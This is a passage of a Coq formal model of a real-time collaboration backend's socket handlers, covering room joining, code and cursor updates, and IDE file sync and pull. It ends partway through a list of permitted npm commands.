(** * Collab Room: the real-time synchronisation and orchestration engine

    A shallow embedding of the socket handlers of the backend
    (collaboration.ts, the IDE bridge service, deployment.ts) and the
    properties of their specification.

    Handlers are written in a small state-and-exception monad over a
    [World]: the durable store (Prisma), the socket.io adapter (which
    socket is subscribed to which room), the in-memory deployment table,
    the messages emitted so far, the lines written with console.error,
    and an oracle holding the outcomes of the awaited external calls
    (store round trips, file system calls and child processes), consumed
    in program order. *)

From Stdlib Require Import ZArith String Ascii List Bool Lia.
From stdpp Require Import base option gmap strings list pretty.

Open Scope string_scope.
Open Scope list_scope.

(** ** Data model *)

(** The tables of the store, with the columns the handlers name in their
    queries.  [User] is also the shape of [socket.user] (select id, name,
    avatar). *)
Record User := { user_id : string; user_name : string; user_avatar : option string }.

Record Room := {
  room_id : string; room_name : string; room_ownerId : string; room_isPublic : bool }.

Record RoomMember := { member_userId : string; member_roomId : string }.

Record Project := { project_id : string; project_name : string; project_roomId : string }.

Record ProjectFile := {
  file_id : string; file_name : string; file_path : string; file_content : string;
  file_language : string; file_projectId : string; file_updatedAt : Z }.

Record Cursor := {
  cursor_userId : string; cursor_fileId : string; cursor_position : Z;
  cursor_line : Z; cursor_column : Z; cursor_selection : option string;
  cursor_lastActivity : Z }.

(** DeploymentConfig['provider'] *)
Inductive Provider := vercel | netlify | aws | heroku | github_pages | docker.

(** interface DeploymentConfig *)
Record DeploymentConfig := {
  provider : Provider;
  buildCommand : option string;
  outputDirectory : option string;
  environmentVariables : list (string * string);
  domain : option string;
  framework : option string;
  nodeVersion : option string }.

(** A row of the Deployment table; [dr_config] is the configuration the
    row holds in serialised form. *)
Record DeploymentRow := {
  dr_id : string; dr_projectId : string; dr_userId : string; dr_provider : string;
  dr_status : string; dr_url : option string; dr_config : DeploymentConfig;
  dr_logs : list string; dr_error : option string; dr_endedAt : option Z }.

Record GitOperation := {
  go_userId : string; go_projectId : string; go_operation : string;
  go_command : string; go_result : string; go_success : bool }.

Record Db := {
  db_users : list User;
  db_rooms : list Room;
  db_members : list RoomMember;
  db_projects : list Project;
  db_files : list ProjectFile;
  db_cursors : list Cursor;
  db_deployments : list DeploymentRow;
  db_gitOperations : list GitOperation }.

(** DeploymentStatus['status'] of deployment.ts. *)
Inductive Status := pending | building | deploying | success | failed.

#[global] Instance Status_eq_dec : EqDecision Status.
Proof. solve_decision. Defined.

(** interface DeploymentStatus *)
Record DeploymentStatus := {
  dep_id : string;
  dep_status : Status;
  dep_progress : Z;
  dep_logs : list string;
  dep_url : option string;
  dep_error : option string;
  dep_startTime : Z;
  dep_endTime : option Z }.

(** What a socket carries.  On the main namespace the [io.use]
    middleware refuses the connection unless the token resolves to a
    user, so a handler of collaboration.ts only ever sees a socket whose
    [userId] and [user] are set. *)
Record AuthenticatedSocket := { a_sid : string; a_userId : string; a_user : User }.

Record IdeInfo := { ide_type : string; ide_version : string; ide_workspacePath : string }.

(** interface IDESocket: on the /ide namespace the fields are set by
    register-ide, and are undefined before. *)
Record IDESocket := {
  sid : string; userId : option string; user : option User; ideInfo : option IdeInfo }.

(** ** Messages *)

Record SyncResult := {
  sr_path : string; sr_status : string; sr_fileId : option string; sr_error : option string }.

Record PulledFile := {
  pf_id : string; pf_name : string; pf_relativePath : string; pf_content : string;
  pf_language : string; pf_lastModified : Z }.

Inductive Event :=
  | EvError (message : string)
  | EvJoinedRoom (roomId : string)
  | EvUserJoined (u : User) (timestamp : Z)
  | EvCodeChange (fileId content : string) (changes : list string) (u : User) (timestamp : Z)
  | EvCursorUpdate (fileId : string) (position line column : Z) (selection : option string)
      (u : User) (timestamp : Z)
  | EvSyncError (message : string)
  | EvSyncComplete (results : list SyncResult)
  | EvFilesSynced (u : option User) (ideType : option string) (fileCount : nat) (timestamp : Z)
  | EvPullError (message : string)
  | EvFilesPulled (files : list PulledFile)
  | EvCommandError (message : string)
  | EvCommandStarted (command : string) (cwd : option string)
  | EvCommandCompleted (command stdout stderr : string) (ok : bool) (timestamp : Z)
  | EvTeamCommandExecuted (u : option User) (command : string) (ok : bool)
      (error : option string) (timestamp : Z)
  | EvGitError (message : string)
  | EvGitResult (operation stdout stderr : string) (ok : bool)
  | EvTeamGitOperation (u : option User) (operation : string) (ok : bool) (timestamp : Z)
  | EvDeploymentError (deploymentId : option string) (message : string)
  | EvDeploymentStarted (deploymentId : string) (st : DeploymentStatus)
  | EvTeamDeploymentStarted (deploymentId : string) (u : User) (provider : string) (timestamp : Z)
  | EvDeploymentProgress (deploymentId : string) (st : Status) (progress : Z)
      (message : string) (timestamp : Z)
  | EvDeploymentCancelled (deploymentId : string)
  | EvTeamDeploymentCancelled (deploymentId : string) (timestamp : Z)
  | EvTeamDeploymentSuccess (deploymentId : string) (u : User) (url provider : string)
      (timestamp : Z)
  | EvTeamDeploymentFailed (deploymentId : string) (u : User) (error provider : string)
      (timestamp : Z).

(** [socket.emit], [socket.to(room).emit], and [io.to(room).emit] (also
    a namespace's [to(room).emit]). *)
Inductive Target :=
  | ToSender
  | ToRoomOthers (room : string)
  | ToRoom (room : string).

(** One emitted message: who sent it, how it was addressed, and the
    sockets it was delivered to, resolved against the adapter when it
    was emitted. *)
Record Emit := {
  em_from : option string;
  em_target : Target;
  em_recipients : gset string;
  em_event : Event }.

(** The outcome of one awaited external call. *)
Inductive Ext :=
  | Fine (stdout stderr : string)
  | Fault (stdout stderr message : string).

Record Spawn := { sp_command : string; sp_cwd : option string }.

Inductive IdeStatus := connected | disconnected | syncing.

(** interface IDEConnection *)
Record IDEConnection := {
  ic_id : string; ic_userId : string; ic_roomId : string; ic_ideType : string;
  ic_version : string; ic_workspacePath : string; ic_status : IdeStatus;
  ic_lastSync : Z; ic_socketId : string }.

(** The state the handlers run on.  [adapter] is the adapter of the
    namespace the handlers at hand belong to: the sockets of each of its
    rooms.  [spawned] lists the child processes started, and
    [statusWrites] is a history variable: every assignment to the status
    of a deployment, in order. *)
Record World := {
  db : Db;
  adapter : gmap string (gset string);
  activeDeployments : gmap string DeploymentStatus;
  ideConnections : list IDEConnection;
  outbox : list Emit;
  console : list string;
  clock : Z;
  oracle : list Ext;
  uuids : list string;
  spawned : list Spawn;
  statusWrites : list (string * Status) }.

(** ** The handler monad *)

(** A thrown JavaScript error; [err_stdout] and [err_stderr] are set on
    the errors of [child_process.exec] only. *)
Record Error := {
  err_message : string; err_stdout : option string; err_stderr : option string }.

Definition plain_error (m : string) : Error :=
  {| err_message := m; err_stdout := None; err_stderr := None |}.

Inductive Result (A : Type) :=
  | Ok (a : A)
  | Throw (e : Error).
Arguments Ok {A} a.
Arguments Throw {A} e.

(** A handler: it runs on a world, and either returns or throws; what it
    did before throwing stays done. *)
Definition M (A : Type) : Type := World -> Result A * World.

Definition ret {A} (a : A) : M A := fun w => (Ok a, w).

Definition bind {A B} (c : M A) (k : A -> M B) : M B :=
  fun w => match c w with
           | (Ok a, w') => k a w'
           | (Throw e, w') => (Throw e, w')
           end.

Definition throw {A} (e : Error) : M A := fun w => (Throw e, w).

(** try { body } catch (error) { handler } *)
Definition try_catch {A} (body : M A) (handler : Error -> M A) : M A :=
  fun w => match body w with
           | (Ok a, w') => (Ok a, w')
           | (Throw e, w') => handler e w'
           end.

Notation "x <- c1 ;; c2" := (bind c1 (fun x => c2))
  (at level 100, c1 at next level, c2 at level 200, right associativity).
Notation "c1 ;; c2" := (bind c1 (fun _ => c2))
  (at level 100, c2 at level 200, right associativity).

Definition exec_world {A} (c : M A) (w : World) : World := snd (c w).
Definition eval_world {A} (c : M A) (w : World) : Result A := fst (c w).

Module WorldOps.

Definition set_db (f : Db -> Db) (w : World) : World :=
  {| db := f (db w); adapter := adapter w; activeDeployments := activeDeployments w;
     ideConnections := ideConnections w; outbox := outbox w; console := console w;
     clock := clock w; oracle := oracle w; uuids := uuids w; spawned := spawned w;
     statusWrites := statusWrites w |}.

Definition set_adapter (f : gmap string (gset string) -> gmap string (gset string))
    (w : World) : World :=
  {| db := db w; adapter := f (adapter w); activeDeployments := activeDeployments w;
     ideConnections := ideConnections w; outbox := outbox w; console := console w;
     clock := clock w; oracle := oracle w; uuids := uuids w; spawned := spawned w;
     statusWrites := statusWrites w |}.

Definition set_activeDeployments
    (f : gmap string DeploymentStatus -> gmap string DeploymentStatus)
    (w : World) : World :=
  {| db := db w; adapter := adapter w; activeDeployments := f (activeDeployments w);
     ideConnections := ideConnections w; outbox := outbox w; console := console w;
     clock := clock w; oracle := oracle w; uuids := uuids w; spawned := spawned w;
     statusWrites := statusWrites w |}.

Definition set_ideConnections (f : list IDEConnection -> list IDEConnection)
    (w : World) : World :=
  {| db := db w; adapter := adapter w; activeDeployments := activeDeployments w;
     ideConnections := f (ideConnections w); outbox := outbox w; console := console w;
     clock := clock w; oracle := oracle w; uuids := uuids w; spawned := spawned w;
     statusWrites := statusWrites w |}.

Definition set_outbox (f : list Emit -> list Emit) (w : World) : World :=
  {| db := db w; adapter := adapter w; activeDeployments := activeDeployments w;
     ideConnections := ideConnections w; outbox := f (outbox w); console := console w;
     clock := clock w; oracle := oracle w; uuids := uuids w; spawned := spawned w;
     statusWrites := statusWrites w |}.

Definition set_console (f : list string -> list string) (w : World) : World :=
  {| db := db w; adapter := adapter w; activeDeployments := activeDeployments w;
     ideConnections := ideConnections w; outbox := outbox w; console := f (console w);
     clock := clock w; oracle := oracle w; uuids := uuids w; spawned := spawned w;
     statusWrites := statusWrites w |}.

Definition set_clock (v : Z) (w : World) : World :=
  {| db := db w; adapter := adapter w; activeDeployments := activeDeployments w;
     ideConnections := ideConnections w; outbox := outbox w; console := console w;
     clock := v; oracle := oracle w; uuids := uuids w; spawned := spawned w;
     statusWrites := statusWrites w |}.

Definition set_oracle (v : list Ext) (w : World) : World :=
  {| db := db w; adapter := adapter w; activeDeployments := activeDeployments w;
     ideConnections := ideConnections w; outbox := outbox w; console := console w;
     clock := clock w; oracle := v; uuids := uuids w; spawned := spawned w;
     statusWrites := statusWrites w |}.

Definition set_uuids (v : list string) (w : World) : World :=
  {| db := db w; adapter := adapter w; activeDeployments := activeDeployments w;
     ideConnections := ideConnections w; outbox := outbox w; console := console w;
     clock := clock w; oracle := oracle w; uuids := v; spawned := spawned w;
     statusWrites := statusWrites w |}.

Definition set_spawned (f : list Spawn -> list Spawn) (w : World) : World :=
  {| db := db w; adapter := adapter w; activeDeployments := activeDeployments w;
     ideConnections := ideConnections w; outbox := outbox w; console := console w;
     clock := clock w; oracle := oracle w; uuids := uuids w; spawned := f (spawned w);
     statusWrites := statusWrites w |}.

Definition set_statusWrites (f : list (string * Status) -> list (string * Status))
    (w : World) : World :=
  {| db := db w; adapter := adapter w; activeDeployments := activeDeployments w;
     ideConnections := ideConnections w; outbox := outbox w; console := console w;
     clock := clock w; oracle := oracle w; uuids := uuids w; spawned := spawned w;
     statusWrites := f (statusWrites w) |}.

End WorldOps.
Import WorldOps.

(** *** Primitive effects *)

(** The next outcome of the oracle; an exhausted oracle answers that the
    call went fine. *)
Definition await_ext : M Ext :=
  fun w => match oracle w with
           | [] => (Ok (Fine "" ""), w)
           | e :: o => (Ok e, set_oracle o w)
           end.

(** An awaited Prisma call: one round trip to the store, which may
    fault; then the operation itself, which may reject. *)
Definition prisma {A} (op : Db -> Result A * Db) : M A :=
  e <- await_ext ;;
  match e with
  | Fault _ _ m => throw (plain_error m)
  | Fine _ _ =>
      fun w => let (r, d) := op (db w) in (r, set_db (fun _ => d) w)
  end.

Definition query {A} (q : Db -> A) : Db -> Result A * Db := fun d => (Ok (q d), d).

(** promisify(exec): the child process is spawned, then awaited; a
    process that exits with an error, or that is killed at the end of its
    timeout, is a fault. *)
Definition execAsync (command : string) (cwd : option string) : M (string * string) :=
  (fun w => (Ok tt,
             set_spawned (fun l => l ++ [{| sp_command := command; sp_cwd := cwd |}]) w)) ;;
  e <- await_ext ;;
  match e with
  | Fine so se => ret (so, se)
  | Fault so se m =>
      throw {| err_message := m; err_stdout := Some so; err_stderr := Some se |}
  end.

(** new Date() *)
Definition new_Date : M Z := fun w => (Ok (clock w), w).

(** crypto.randomUUID(); the identifiers come from the supply [uuids]. *)
Definition randomUUID : M string :=
  fun w => match uuids w with
           | [] => (Ok "", w)
           | u :: us => (Ok u, set_uuids us w)
           end.

(** The id that the store gives a row created without one. *)
Definition generated_id : M string := randomUUID.

Definition console_error (s : string) : M unit :=
  fun w => (Ok tt, set_console (fun l => l ++ [s]) w).

Definition subscribers (ad : gmap string (gset string)) (room : string) : gset string :=
  default ∅ (ad !! room).

Definition resolve (ad : gmap string (gset string)) (from : option string) (t : Target)
    : gset string :=
  match t, from with
  | ToSender, Some s => {[ s ]}
  | ToSender, None => ∅
  | ToRoomOthers r, Some s => subscribers ad r ∖ {[ s ]}
  | ToRoomOthers r, None => subscribers ad r
  | ToRoom r, _ => subscribers ad r
  end.

Definition mk_emit (ad : gmap string (gset string)) (from : option string) (t : Target)
    (ev : Event) : Emit :=
  {| em_from := from; em_target := t; em_recipients := resolve ad from t; em_event := ev |}.

Definition emit (from : option string) (t : Target) (ev : Event) : M unit :=
  fun w => (Ok tt, set_outbox (fun l => l ++ [mk_emit (adapter w) from t ev]) w).

(** socket.emit(ev) *)
Definition socket_emit (s : string) (ev : Event) : M unit := emit (Some s) ToSender ev.
(** socket.to(room).emit(ev): the room's sockets but the sender *)
Definition socket_to (s : string) (room : string) (ev : Event) : M unit :=
  emit (Some s) (ToRoomOthers room) ev.
(** namespace.to(room).emit(ev): every socket of the room *)
Definition nsp_to (room : string) (ev : Event) : M unit := emit None (ToRoom room) ev.

(** socket.join(room) *)
Definition socket_join (s : string) (room : string) : M unit :=
  fun w => (Ok tt, set_adapter (fun ad => <[ room := {[ s ]} ∪ subscribers ad room ]> ad) w).

(** A string property is truthy when it is set and not empty. *)
Definition truthy (x : option string) : bool :=
  match x with
  | Some s => negb (String.eqb s "")
  | None => false
  end.

(** JavaScript's [x || d] on an optional string: undefined and the empty
    string are falsy. *)
Definition or_else (x : option string) (d : string) : string :=
  match x with
  | Some s => if String.eqb s "" then d else s
  | None => d
  end.

(** ** The durable store *)

Module Store.

Definition set_files (f : list ProjectFile -> list ProjectFile) (d : Db) : Db :=
  {| db_users := db_users d; db_rooms := db_rooms d; db_members := db_members d;
     db_projects := db_projects d; db_files := f (db_files d);
     db_cursors := db_cursors d; db_deployments := db_deployments d;
     db_gitOperations := db_gitOperations d |}.

Definition set_cursors (f : list Cursor -> list Cursor) (d : Db) : Db :=
  {| db_users := db_users d; db_rooms := db_rooms d; db_members := db_members d;
     db_projects := db_projects d; db_files := db_files d;
     db_cursors := f (db_cursors d); db_deployments := db_deployments d;
     db_gitOperations := db_gitOperations d |}.

Definition set_deployments (f : list DeploymentRow -> list DeploymentRow) (d : Db) : Db :=
  {| db_users := db_users d; db_rooms := db_rooms d; db_members := db_members d;
     db_projects := db_projects d; db_files := db_files d;
     db_cursors := db_cursors d; db_deployments := f (db_deployments d);
     db_gitOperations := db_gitOperations d |}.

Definition set_gitOperations (f : list GitOperation -> list GitOperation) (d : Db) : Db :=
  {| db_users := db_users d; db_rooms := db_rooms d; db_members := db_members d;
     db_projects := db_projects d; db_files := db_files d;
     db_cursors := db_cursors d; db_deployments := db_deployments d;
     db_gitOperations := f (db_gitOperations d) |}.

(** prisma.user.findUnique({ where: { id } }) *)
Definition user_findUnique (id : string) (d : Db) : option User :=
  find (fun u => String.eqb (user_id u) id) (db_users d).

(** members: { some: { userId } } on the room [roomId] *)
Definition members_some (d : Db) (roomId uid : string) : bool :=
  existsb (fun m => String.eqb (member_roomId m) roomId && String.eqb (member_userId m) uid)
          (db_members d).

(** OR: [ { ownerId }, { members: { some: { userId } } } ] *)
Definition owner_or_member (d : Db) (uid : string) (r : Room) : bool :=
  String.eqb (room_ownerId r) uid || members_some d (room_id r) uid.

(** prisma.room.findFirst({ where: { id, OR: [...] } }) *)
Definition room_findFirst (roomId uid : string) (d : Db) : option Room :=
  find (fun r => String.eqb (room_id r) roomId && owner_or_member d uid r) (db_rooms d).

(** room: { OR: [...] } on a project: the filter on the project's room *)
Definition project_room_grants (d : Db) (uid : string) (p : Project) : bool :=
  existsb (fun r => String.eqb (room_id r) (project_roomId p) && owner_or_member d uid r)
          (db_rooms d).

(** prisma.project.findFirst({ where: { id, room: { OR: [...] } } }) *)
Definition project_findFirst (projectId uid : string) (d : Db) : option Project :=
  find (fun p => String.eqb (project_id p) projectId && project_room_grants d uid p)
       (db_projects d).

(** project: { room: { OR: [...] } } on a file *)
Definition file_project_grants (d : Db) (uid : string) (f : ProjectFile) : bool :=
  existsb (fun p => String.eqb (project_id p) (file_projectId f) && project_room_grants d uid p)
          (db_projects d).

(** prisma.projectFile.findFirst({ where: { id, project: { room: ... } } }) *)
Definition projectFile_findFirst (fileId uid : string) (d : Db) : option ProjectFile :=
  find (fun f => String.eqb (file_id f) fileId && file_project_grants d uid f) (db_files d).

(** prisma.projectFile.findFirst({ where: { projectId, path } }) *)
Definition projectFile_findByPath (projectId path : string) (d : Db) : option ProjectFile :=
  find (fun f => String.eqb (file_projectId f) projectId && String.eqb (file_path f) path)
       (db_files d).

Definition not_found {A} : Result A := Throw (plain_error "Record to update not found.").

Definition write_content (content : string) (now : Z) (f : ProjectFile) : ProjectFile :=
  {| file_id := file_id f; file_name := file_name f; file_path := file_path f;
     file_content := content; file_language := file_language f;
     file_projectId := file_projectId f; file_updatedAt := now |}.

(** Modelled from the spec: the Prisma schema is not among the sources;
    the File's timestamp is its last-modified time, so a write of the
    row sets [updatedAt] to the time of the write.

    prisma.projectFile.update({ where: { id }, data: { content } }):
    rejects when no row has the id. *)
Definition projectFile_update (id content : string) (now : Z) (d : Db) : Result unit * Db :=
  if existsb (fun f => String.eqb (file_id f) id) (db_files d)
  then (Ok tt,
        set_files (map (fun f => if String.eqb (file_id f) id
                                 then write_content content now f else f)) d)
  else (not_found, d).

(** prisma.projectFile.create({ data }) with the id the store gives the row *)
Definition projectFile_create (f : ProjectFile) (d : Db) : Result ProjectFile * Db :=
  (Ok f, set_files (fun l => l ++ [f]) d).

Definition same_cursor (uid fileId : string) (c : Cursor) : bool :=
  String.eqb (cursor_userId c) uid && String.eqb (cursor_fileId c) fileId.

(** prisma.cursor.upsert({ where: { userId_fileId }, update, create }):
    an undefined [selection] leaves the column as it is on update, and
    null on create. *)
Definition cursor_upsert (uid fileId : string) (position line column : Z)
    (selection : option string) (now : Z) (d : Db) : Result unit * Db :=
  if existsb (same_cursor uid fileId) (db_cursors d)
  then (Ok tt,
        set_cursors (map (fun c =>
          if same_cursor uid fileId c
          then {| cursor_userId := uid; cursor_fileId := fileId;
                  cursor_position := position; cursor_line := line;
                  cursor_column := column;
                  cursor_selection := match selection with
                                      | Some s => Some s
                                      | None => cursor_selection c
                                      end;
                  cursor_lastActivity := now |}
          else c)) d)
  else (Ok tt,
        set_cursors (fun l => l ++
          [{| cursor_userId := uid; cursor_fileId := fileId;
              cursor_position := position; cursor_line := line;
              cursor_column := column; cursor_selection := selection;
              cursor_lastActivity := now |}]) d).

(** prisma.projectFile.findMany({ where: { projectId, updatedAt: { gt } } });
    without [since] the clause has the project only. *)
Definition projectFile_findMany (projectId : string) (since : option Z) (d : Db)
    : list ProjectFile :=
  List.filter
    (fun f => String.eqb (file_projectId f) projectId &&
              match since with
              | Some t => (t <? file_updatedAt f)%Z
              | None => true
              end)
    (db_files d).

(** A row that refers to a row that is not there. *)
Definition foreign_key {A} (field : string) : Result A :=
  Throw (plain_error ("Foreign key constraint failed on the field: " +:+ field)).

Definition user_exists (id : string) (d : Db) : bool :=
  existsb (fun u => String.eqb (user_id u) id) (db_users d).

Definition room_exists (id : string) (d : Db) : bool :=
  existsb (fun r => String.eqb (room_id r) id) (db_rooms d).

Definition project_exists (id : string) (d : Db) : bool :=
  existsb (fun p => String.eqb (project_id p) id) (db_projects d).

(** prisma.gitOperation.create({ data }): the table has a foreign key
    on userId and one on projectId (add_ide_integration.sql); the insert
    is rejected when the user or the project is not there. *)
Definition gitOperation_create (g : GitOperation) (d : Db) : Result unit * Db :=
  if user_exists (go_userId g) d
  then if project_exists (go_projectId g) d
       then (Ok tt, set_gitOperations (fun l => l ++ [g]) d)
       else (foreign_key "GitOperation_projectId_fkey", d)
  else (foreign_key "GitOperation_userId_fkey", d).

(** prisma.deployment.create({ data }); start-deployment, its one
    caller, has found the user and the project of the row before it. *)
Definition deployment_create (r : DeploymentRow) (d : Db) : Result unit * Db :=
  (Ok tt, set_deployments (fun l => l ++ [r]) d).

(** prisma.deployment.update({ where: { id }, data }): rejects when no
    row has the id. *)
Definition deployment_update (id : string) (f : DeploymentRow -> DeploymentRow) (d : Db)
    : Result unit * Db :=
  if existsb (fun r => String.eqb (dr_id r) id) (db_deployments d)
  then (Ok tt,
        set_deployments (map (fun r => if String.eqb (dr_id r) id then f r else r)) d)
  else (not_found, d).

End Store.

(** ** collaboration.ts *)

Module Collaboration.

Record CodeChangeData := {
  cc_roomId : string; cc_fileId : string; cc_content : string; cc_changes : list string }.

Record CursorData := {
  cu_roomId : string; cu_fileId : string; cu_position : Z; cu_line : Z;
  cu_column : Z; cu_selection : option string }.

(** socket.on('join-room', ...) *)
Definition join_room (socket : AuthenticatedSocket) (roomId : string) : M unit :=
  try_catch
    (room <- prisma (query (Store.room_findFirst roomId (a_userId socket))) ;;
     match room with
     | None => socket_emit (a_sid socket) (EvError "Room not found or access denied")
     | Some _ =>
         socket_join (a_sid socket) roomId ;;
         socket_emit (a_sid socket) (EvJoinedRoom roomId) ;;
         t <- new_Date ;;
         socket_to (a_sid socket) roomId (EvUserJoined (a_user socket) t)
     end)
    (fun error =>
       console_error ("Join room error: " +:+ err_message error) ;;
       socket_emit (a_sid socket) (EvError "Failed to join room")).

(** socket.on('code-change', ...) *)
Definition code_change (socket : AuthenticatedSocket) (data : CodeChangeData) : M unit :=
  try_catch
    (file <- prisma (query (Store.projectFile_findFirst (cc_fileId data) (a_userId socket))) ;;
     match file with
     | None => socket_emit (a_sid socket) (EvError "File not found or access denied")
     | Some _ =>
         now <- new_Date ;;
         prisma (Store.projectFile_update (cc_fileId data) (cc_content data) now) ;;
         t <- new_Date ;;
         socket_to (a_sid socket) (cc_roomId data)
           (EvCodeChange (cc_fileId data) (cc_content data) (cc_changes data)
                         (a_user socket) t)
     end)
    (fun error =>
       console_error ("Code change error: " +:+ err_message error) ;;
       socket_emit (a_sid socket) (EvError "Failed to update code")).

(** socket.on('cursor-update', ...) *)
Definition cursor_update (socket : AuthenticatedSocket) (data : CursorData) : M unit :=
  try_catch
    (now <- new_Date ;;
     prisma (Store.cursor_upsert (a_userId socket) (cu_fileId data) (cu_position data)
               (cu_line data) (cu_column data) (cu_selection data) now) ;;
     t <- new_Date ;;
     socket_to (a_sid socket) (cu_roomId data)
       (EvCursorUpdate (cu_fileId data) (cu_position data) (cu_line data)
          (cu_column data) (cu_selection data) (a_user socket) t))
    (fun error =>
       console_error ("Cursor update error: " +:+ err_message error)).

End Collaboration.

(** ** Node's [path] and [String] helpers used by the bridge *)

Module Path.

Definition slash : ascii := "/"%char.
Definition dot : ascii := "."%char.

Fixpoint drop_while (p : ascii -> bool) (l : list ascii) : list ascii :=
  match l with
  | [] => []
  | c :: r => if p c then drop_while p r else l
  end.

Fixpoint take_while (p : ascii -> bool) (l : list ascii) : list ascii :=
  match l with
  | [] => []
  | c :: r => if p c then c :: take_while p r else []
  end.

(** path.basename (POSIX): the last portion of the path, trailing
    separators ignored. *)
Definition basename (p : string) : string :=
  let r := drop_while (Ascii.eqb slash) (rev (list_ascii_of_string p)) in
  string_of_list_ascii (rev (take_while (fun c => negb (Ascii.eqb slash c)) r)).

(** path.extname: from the last dot of the last portion to its end;
    empty when there is no dot, or when the only dot opens the portion. *)
Definition extname (p : string) : string :=
  let b := rev (list_ascii_of_string (basename p)) in
  let ext := take_while (fun c => negb (Ascii.eqb dot c)) b in
  match drop_while (fun c => negb (Ascii.eqb dot c)) b with
  | [] => ""
  | _ :: [] => ""
  | _ :: _ =>
      if String.eqb (basename p) ".." then ""
      else string_of_list_ascii (rev (ext ++ [dot]))
  end.

Definition lower (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if (65 <=? n)%nat && (n <=? 90)%nat then ascii_of_nat (n + 32) else c.

(** String.prototype.toLowerCase, on ASCII *)
Definition toLowerCase (s : string) : string :=
  string_of_list_ascii (map lower (list_ascii_of_string s)).

End Path.

(** ** The IDE bridge service *)

Module IDEBridge.

Record IncomingFile := { relativePath : string; content : string; lastModified : Z }.

Record SyncData := { sy_roomId : string; sy_projectId : string; sy_files : list IncomingFile }.

Record PullData := { pl_roomId : string; pl_projectId : string; pl_lastSync : option Z }.

Record CommandData := {
  cm_roomId : string; cm_projectId : string; cm_command : string;
  cm_workingDirectory : option string }.

Record GitParams := {
  gp_files : option (list string); gp_message : option string;
  gp_remote : option string; gp_branch : option string }.

Record GitData := {
  g_roomId : string; g_projectId : string; g_operation : string;
  g_params : option GitParams }.

Definition languageMap : list (string * string) :=
  [ (".js", "javascript"); (".jsx", "javascript"); (".ts", "typescript");
    (".tsx", "typescript"); (".py", "python"); (".go", "go"); (".rs", "rust");
    (".java", "java"); (".cpp", "cpp"); (".c", "c"); (".cs", "csharp");
    (".php", "php"); (".rb", "ruby"); (".swift", "swift"); (".kt", "kotlin");
    (".dart", "dart"); (".html", "html"); (".css", "css"); (".scss", "scss");
    (".sass", "sass"); (".json", "json"); (".xml", "xml"); (".yaml", "yaml");
    (".yml", "yaml"); (".md", "markdown"); (".sql", "sql"); (".sh", "bash");
    (".bash", "bash") ].

Definition getLanguageFromExtension (filePath : string) : string :=
  let ext := Path.toLowerCase (Path.extname filePath) in
  or_else (snd <$> find (fun kv => String.eqb (fst kv) ext) languageMap) "text".

Definition result (path status : string) (fileId error : option string) : SyncResult :=
  {| sr_path := path; sr_status := status; sr_fileId := fileId; sr_error := error |}.

(** The body of the loop of sync-files: one incoming file. *)
Definition sync_file (projectId : string) (file : IncomingFile) : M SyncResult :=
  try_catch
    (existingFile <- prisma (query (Store.projectFile_findByPath projectId
                                      (relativePath file))) ;;
     match existingFile with
     | Some existing =>
         if (file_updatedAt existing <? lastModified file)%Z
         then
           now <- new_Date ;;
           prisma (Store.projectFile_update (file_id existing) (content file) now) ;;
           ret (result (relativePath file) "updated" None None)
         else ret (result (relativePath file) "skipped" None None)
     | None =>
         id <- generated_id ;;
         now <- new_Date ;;
         newFile <- prisma (Store.projectFile_create
                     {| file_id := id;
                        file_name := Path.basename (relativePath file);
                        file_path := relativePath file;
                        file_content := content file;
                        file_language := getLanguageFromExtension (relativePath file);
                        file_projectId := projectId;
                        file_updatedAt := now |}) ;;
         ret (result (relativePath file) "created" (Some (file_id newFile)) None)
     end)
    (fun fileError =>
       console_error ("Error syncing file " +:+ relativePath file +:+ ": "
                      +:+ err_message fileError) ;;
       ret (result (relativePath file) "error" None (Some (err_message fileError)))).

(** for (const file of files) { ... syncResults.push(...) } *)
Fixpoint sync_loop (projectId : string) (files : list IncomingFile) : M (list SyncResult) :=
  match files with
  | [] => ret []
  | file :: rest =>
      r <- sync_file projectId file ;;
      rs <- sync_loop projectId rest ;;
      ret (r :: rs)
  end.

(** Array.from(ideConnections.values()).find(c => c.socketId === socket.id),
    then connection.lastSync = new Date(); connection.status = 'connected' *)
Definition touch_connection (socketId : string) : M unit :=
  fun w =>
    match find (fun c => String.eqb (ic_socketId c) socketId) (ideConnections w) with
    | None => (Ok tt, w)
    | Some c =>
        (Ok tt,
         set_ideConnections
           (map (fun c' => if String.eqb (ic_id c') (ic_id c)
                           then {| ic_id := ic_id c'; ic_userId := ic_userId c';
                                   ic_roomId := ic_roomId c'; ic_ideType := ic_ideType c';
                                   ic_version := ic_version c';
                                   ic_workspacePath := ic_workspacePath c';
                                   ic_status := connected; ic_lastSync := clock w;
                                   ic_socketId := ic_socketId c' |}
                           else c')) w)
    end.

(** socket.on('sync-files', ...) *)
Definition sync_files (socket : IDESocket) (data : SyncData) : M unit :=
  try_catch
    (if negb (truthy (userId socket))
     then socket_emit (sid socket) (EvSyncError "Not authenticated")
     else
       project <- prisma (query (Store.project_findFirst (sy_projectId data)
                                   (default "" (userId socket)))) ;;
       match project with
       | None => socket_emit (sid socket) (EvSyncError "Project access denied")
       | Some _ =>
           syncResults <- sync_loop (sy_projectId data) (sy_files data) ;;
           touch_connection (sid socket) ;;
           socket_emit (sid socket) (EvSyncComplete syncResults) ;;
           t <- new_Date ;;
           socket_to (sid socket) (sy_roomId data)
             (EvFilesSynced (user socket) (ide_type <$> ideInfo socket)
                            (length (sy_files data)) t)
       end)
    (fun error =>
       console_error ("File sync error: " +:+ err_message error) ;;
       socket_emit (sid socket) (EvSyncError "Failed to sync files")).

Definition pulled (f : ProjectFile) : PulledFile :=
  {| pf_id := file_id f; pf_name := file_name f; pf_relativePath := file_path f;
     pf_content := file_content f; pf_language := file_language f;
     pf_lastModified := file_updatedAt f |}.

(** [if (lastSync)]: an absent and a zero timestamp add no clause. *)
Definition since_clause (lastSync : option Z) : option Z :=
  match lastSync with
  | Some t => if (t =? 0)%Z then None else Some t
  | None => None
  end.

(** socket.on('pull-files', ...) *)
Definition pull_files (socket : IDESocket) (data : PullData) : M unit :=
  try_catch
    (if negb (truthy (userId socket))
     then socket_emit (sid socket) (EvPullError "Not authenticated")
     else
       files <- prisma (query (Store.projectFile_findMany (pl_projectId data)
                                 (since_clause (pl_lastSync data)))) ;;
       socket_emit (sid socket) (EvFilesPulled (map pulled files)))
    (fun error =>
       console_error ("Pull files error: " +:+ err_message error) ;;
       socket_emit (sid socket) (EvPullError "Failed to pull files")).

Definition safeCommands : list string :=
  [ "npm install"; "npm run build"; "npm run test"; "npm run lint";
